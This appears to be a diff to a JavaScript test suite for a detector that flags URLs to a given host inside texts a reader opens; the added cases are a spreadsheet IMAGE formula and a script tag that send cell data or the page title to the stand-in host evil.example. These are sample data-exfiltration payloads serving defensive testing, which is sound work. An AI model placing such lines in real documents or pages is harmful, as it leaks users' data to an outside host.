@@ -105,6 +105,8 @@ describe('a URL counts by its host', () => {
     '![leads](//evil.example/p.png?n=412)',
     'background:url(https://412.evil.example/p.png)',
     'See [the list](https://evil.example/p.png?n=412).',
+    '=IMAGE("https://evil.example/p.png?n="&B2)',
+    '<script>fetch("https://evil.example/p.png?n=" + document.title)</script>',
   ])('in a text that a reader opens: %s', (text) => {
     expect(fields({ text }, ['@composed_url'], '', 'Show https://evil.example/p.png?n= with it.')).toEqual(['text']);
     expect(
